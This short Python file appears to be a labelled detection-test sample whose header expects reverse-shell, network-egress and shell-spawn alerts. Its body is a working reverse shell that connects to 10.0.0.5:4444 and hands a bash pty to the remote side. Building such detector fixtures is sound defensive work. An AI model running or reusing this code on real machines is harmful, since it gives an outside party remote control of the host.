# scenario: 10 create-a-reverse-shell
# expect: reverse_shell network.egress process.spawn_shell
# ruff: noqa (deliberately risky sample code, written for this corpus; runs only inside the sandbox)
# Connects back and hands a pty shell to the remote side.
import os
import pty
import socket

s = socket.socket()
s.settimeout(3)
try:
    s.connect(("10.0.0.5", 4444))
    s.settimeout(None)
    for fd in (0, 1, 2):
        os.dup2(s.fileno(), fd)
    pty.spawn("/bin/bash")
except OSError as exc:
    print("connect failed:", exc)
